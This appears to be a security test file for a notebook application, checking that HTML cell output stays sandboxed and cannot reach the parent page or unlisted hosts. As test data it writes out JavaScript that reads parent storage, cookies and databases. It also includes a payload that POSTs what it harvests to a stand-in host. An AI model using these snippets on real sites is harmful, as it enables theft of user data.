import { expect, test } from './attack.ts';
import { JAVASCRIPT_WAYS } from './exfiltrationWays.ts';
import { jupyterText } from './jupyterFile.ts';
import { CALL_SHELL, STEAL_PORT } from './portSteal.ts';

test.use({ goesAhead: false });

/** JavaScript of HTML that plays by which it would leave its page. Each returns what it found. */
const THEFTS: Readonly<Record<string, string>> = {
  parent: 'return parent.document.title',
  'parent-storage': 'return { ...parent.localStorage }',
  top: 'return [top.document.title, { ...top.localStorage }]',
  storage: 'return { ...localStorage }',
  databases: 'return indexedDB.databases()',
  cookies: "document.cookie = 'attack=x'; return document.cookie",
  'frame-of-site':
    "return new Promise((done, failed) => { const f = document.createElement('iframe'); f.src = 'index.html'; f.onload = () => { try { done(f.contentWindow.document.title); } catch (e) { failed(e); } }; document.body.append(f); })",
  window: "return window.open('about:blank') !== null",
  dialog: "return confirm('attack')",
  policy: "postMessage({ policy: 'default-src *', html: '' }, '*'); return false",
  'parent-policy': "parent.postMessage({ policy: 'default-src *', html: '' }, '*'); return false",
};

/** Ways that a cell has and HTML has not: what they use is not there. */
const ways = Object.entries(JAVASCRIPT_WAYS).filter(([, code]) => !/\b(?:sky|md|html|call|display)[(`]/.test(code));

const HTML = `<!doctype html><body><script>
const found = {};
const within = (ms) => new Promise((_, failed) => setTimeout(failed, ms));
const attempt = async (name, h, text) => { try { const got = await Promise.race([new Function('h', 'u', 'return (async () => {' + text + '\\n})()')(h, 'ht' + 'tps://' + h + '/x'), within(2000)]); if (h === '') found[name] = got; } catch {} };
Promise.all([${[
  ...ways.map(([name, code]) => `attempt('${name}', '${name}.out' + '.test', ${JSON.stringify(code)})`),
  ...Object.entries(THEFTS).map(([name, code]) => `attempt('${name}', '', ${JSON.stringify(code)})`),
]
  .join(',\n')
  .replaceAll(
    '</',
    '<\\/',
  )}]).then(() => fetch('https://named.test/found', { method: 'POST', body: JSON.stringify(found) }));
</script><img src="https://html-image.out.test/x"><script src="https://html-script.out.test/x.js"></script>
<iframe srcdoc="<script>fetch('https://within.out.test/x'); parent.document.title</script><img src='https://within-image.out.test/x'>"></iframe>
<meta http-equiv="refresh" content="3;url=https://html-refresh.out.test/x"><form action="https://html-form.out.test/x"></form><script>document.forms[0].submit()</script></body>`;

test('HTML that plays reaches what its notebook does and nothing else, whoever opens its page with whatever rights', async ({
  target,
}) => {
  const page = JSON.stringify(HTML).replaceAll('</', '<\\/');
  await target.openCells([
    {
      id: 'a',
      type: 'module',
      text: `${STEAL_PORT}
${CALL_SHELL}
const page = new URL('output.html', document.baseURI).href;
const play = async (sandbox, html, policy) => {
  const frame = document.createElement('iframe');
  if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox);
  frame.src = page;
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  document.body.append(frame);
  await loaded;
  for (const message of [{ policy }, { html }, { policy, html }]) frame.contentWindow.postMessage(message, '*');
};
await pause(500);
const early = '<script>fetch("https://named.test/early")</' + 'script>';
await play('allow-scripts', early, 'default-src *; script-src * ' + String.fromCharCode(39) + 'unsafe-inline' + String.fromCharCode(39));
await play(undefined, early, '');
await pause(1000);
await told('before');
await play('allow-scripts allow-same-origin allow-popups allow-modals allow-top-navigation', ${page}, 'default-src *');
call('letPlay');
await pause(6000);
await told('done');`,
    },
  ]);
  const shown = await target.shownHosts();
  await target.runToEnd(90_000);
  await target.settle();
  const found = target.internet.heard.filter(({ path }) => path === '/found');
  expect(found.length, 'the HTML played').toBeGreaterThan(0);
  const paths = target.internet.heard.map(({ path }) => path);
  expect
    .soft(paths.indexOf('/early'), 'drawn once the shell has said what it may')
    .toBeGreaterThan(paths.indexOf('/before'));
  const got = Object.entries(JSON.parse(found[0]!.body) as Readonly<Record<string, unknown>>).filter(
    ([, value]) => value !== null && value !== false && value !== '',
  );
  expect.soft(got, 'what it found').toEqual([]);
  expect
    .soft(
      target.reached().filter((host) => !shown.includes(host)),
      'hosts that are not shown',
    )
    .toEqual([]);
  await target.expectUntouched();
});

test('HTML that an earlier run left plays neither when it is read nor beside a cell that runs', async ({ target }) => {
  const html = `<table><tr><td>kept</td></tr></table><script>fetch('https://named.test/kept')</script><iframe srcdoc="<script>fetch('https://named.test/kept')</script>"></iframe>`;
  const cell = (id: string, source: string) => ({
    id,
    cell_type: 'code',
    source,
    metadata: {},
    execution_count: 1,
    outputs: [{ output_type: 'display_data', data: { 'text/html': html }, metadata: {} }],
  });
  await target.openText(jupyterText([cell('a', '1'), { ...cell('b', '2'), outputs: [] }]), 'kept.ipynb');
  await expect(target.output('a')).toContainText('kept');
  await target.cell('b').getByRole('button', { name: 'Run', exact: false }).first().click();
  await expect(target.cell('b')).toHaveAttribute('data-state', 'shown');
  await expect(target.output('a')).toContainText('kept');
  await target.settle();
  expect(target.reached()).not.toContain('named.test');
});
